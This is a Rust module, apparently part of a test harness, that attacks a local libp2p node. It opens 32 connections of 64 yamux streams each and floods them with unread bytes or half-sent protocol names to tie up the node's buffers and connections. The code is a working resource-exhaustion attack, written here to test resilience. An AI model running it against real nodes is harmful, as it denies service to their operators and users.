//! Streams over TCP, hundreds on a connection and full of bytes that nobody can read: as many as the victim
//! agrees on at once say nothing, and the others wait for their turn.

use std::{future::poll_fn, pin::Pin, time::Duration};

use futures::{AsyncReadExt, AsyncWriteExt};
use libp2p::{
    Multiaddr, PeerId, Transport,
    core::{
        Endpoint,
        muxing::{StreamMuxer, StreamMuxerBox, SubstreamBox},
        transport::{Boxed, DialOpts, PortUse},
        upgrade::Version,
    },
    identity::Keypair,
    noise, tcp, yamux,
};
use tokio::{
    task::JoinSet,
    time::{Instant, timeout_at},
};

use super::Victim;
use crate::Attempt;

/// Connections at once, and streams of each.
const CONNECTIONS: usize = 32;
const STREAMS: usize = 64;
/// Streams of each that only begin to say what they want to speak.
const SILENT: usize = 16;
/// What each of the others sends: all that it may before it is read.
const UNREAD: usize = 256 << 10;

/// Keeps as much unread as it can for a time; how many connections it had, and bytes that were taken.
pub(super) async fn unread(victim: &Victim, time: Duration) -> Attempt<(u64, u64)> {
    let end = Instant::now() + time;
    let address: Multiaddr = format!("/ip4/127.0.0.1/tcp/{}", victim.control.port()).parse()?;
    let mut attackers = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let address = address.clone();
        attackers.spawn(async move {
            let (mut connections, mut taken) = (0, 0);
            while Instant::now() < end {
                if let Some(bytes) = connection(address.clone(), end).await {
                    connections += 1;
                    taken += bytes;
                }
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
            (connections, taken)
        });
    }
    let (mut connections, mut taken) = (0, 0);
    while let Some(one) = attackers.join_next().await {
        let one = one?;
        connections += one.0;
        taken += one.1;
    }
    Ok((connections, taken))
}

/// One connection to its end; none if it was refused.
async fn connection(address: Multiaddr, end: Instant) -> Option<u64> {
    let options = DialOpts {
        role: Endpoint::Dialer,
        port_use: PortUse::New,
    };
    let mut transport = transport()?;
    let dial = transport.dial(address, options).ok()?;
    let (_, mut muxer) = timeout_at(end, dial).await.ok()?.ok()?;
    let mut streams = JoinSet::new();
    for number in 0..STREAMS {
        let open = poll_fn(|cx| Pin::new(&mut muxer).poll_outbound(cx));
        let stream = timeout_at(end, open).await.ok()?.ok()?;
        streams.spawn(fill(stream, number < SILENT, end));
    }
    let moving = poll_fn(|cx| Pin::new(&mut muxer).poll(cx).map(drop));
    let filling = async {
        let mut taken = 0;
        while let Some(Ok(bytes)) = streams.join_next().await {
            taken += bytes;
        }
        taken
    };
    // Nothing moves unless the connection is polled, and it ends when the victim closes it.
    tokio::select! {
        taken = filling => Some(taken),
        () = moving => None,
    }
}

fn transport() -> Option<Boxed<(PeerId, StreamMuxerBox)>> {
    let noise = noise::Config::new(&Keypair::generate_ed25519()).ok()?;
    let tcp = tcp::tokio::Transport::new(tcp::Config::default());
    let upgraded = tcp.upgrade(Version::V1Lazy).authenticate(noise);
    let muxed = upgraded.multiplex(yamux::Config::default());
    Some(muxed.boxed())
}

/// Writes, and waits until it is told that nobody wants it; how many bytes were taken.
async fn fill(mut stream: SubstreamBox, silent: bool, end: Instant) -> u64 {
    // The head of a name of 16 KiB that never comes, or of one that means nothing.
    let length = if silent { 2 } else { UNREAD };
    let mut bytes = vec![0xFF; length];
    bytes[1] = 0x7F;
    let mut taken = 0;
    let writing = async {
        while taken < length {
            taken += stream.write(&bytes[taken..]).await?;
            stream.flush().await?;
        }
        stream.read_to_end(&mut Vec::new()).await
    };
    let _ = timeout_at(end, writing).await;
    taken as u64
}
